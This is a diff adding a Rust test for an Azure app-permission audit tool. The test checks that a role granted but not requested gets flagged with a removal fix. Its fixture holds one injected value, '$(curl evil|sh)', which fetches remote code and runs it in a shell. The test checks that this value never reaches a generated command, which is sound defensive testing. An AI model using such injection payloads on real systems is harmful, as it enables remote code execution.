@@ -2568,3 +2568,52 @@ fn a_guid_listed_as_role_and_scope_is_never_deleted_whole() {
     assert!(!fix.contains("az ad app permission delete --id"), "{fix}");
     assert!(fix.starts_with("remove the Scope entry of "), "{fix}");
 }
+
+#[test]
+fn a_role_granted_but_not_requested_is_flagged_with_its_removal() {
+    let dir = tempfile::tempdir().unwrap();
+    let g = dir.path().join("grants.json");
+    let sp = "9d3a1c2b-8e7f-4a6b-b5c4-d3e2f1a0b9c8";
+    let principal = "2f3e4d5c-6b7a-4988-9a0b-1c2d3e4f5a6b";
+    std::fs::write(
+        &g,
+        json!({"value": [
+            {"appRoleId": MACHINE_READ_ALL, "resourceId": sp, "resourceDisplayName": "WindowsDefenderATP", "principalId": principal},
+            {"appRoleId": ALERT_READ_ALL, "resourceId": sp, "resourceDisplayName": "WindowsDefenderATP", "principalId": principal},
+            {"id": "$(curl evil|sh)", "appRoleId": "aa027352-232b-4ed4-b963-a705fc4d6d2c", "resourceId": sp,
+             "resourceDisplayName": "WindowsDefenderATP", "principalId": principal},
+            {"id": "41W1zT6z1U-kJxf62svfp1HFE8pMZhxDun-ThPczmJE", "appRoleId": "7e4e1300-e1b9-4102-88ba-f0cb6e6d5974", "resourceId": sp,
+             "resourceDisplayName": "WindowsDefenderATP", "principalId": principal}
+        ]})
+        .to_string(),
+    )
+    .unwrap();
+    let plan = fixture("plans/export-daemon.toml").display().to_string();
+    let (code, v) = run_file(
+        "daemon-ok.json",
+        &["--plan", &plan, "--grants", g.to_str().unwrap()],
+    );
+    assert_eq!(code, 0, "{v}");
+    let f = findings(&v, "app.granted_not_requested");
+    assert_eq!(f.len(), 2, "{v}");
+    let by_name = |n: &str| {
+        f.iter()
+            .find(|x| x["message"].as_str().unwrap().starts_with(n))
+            .unwrap_or_else(|| panic!("{n}: {v}"))
+    };
+    // An assignment id that is not Graph's shape reaches no command line.
+    assert!(
+        by_name("Machine.ReadWrite.All (Role) is granted to the app but not requested by it")["fix"]
+            .as_str()
+            .unwrap()
+            .starts_with("remove the assignment in the portal"),
+        "{v}"
+    );
+    assert_eq!(
+        by_name("Machine.Isolate (Role)")["fix"],
+        format!(
+            "az rest --method DELETE --uri https://graph.microsoft.com/v1.0/servicePrincipals/{principal}/appRoleAssignments/41W1zT6z1U-kJxf62svfp1HFE8pMZhxDun-ThPczmJE"
+        ),
+        "{v}"
+    );
+}
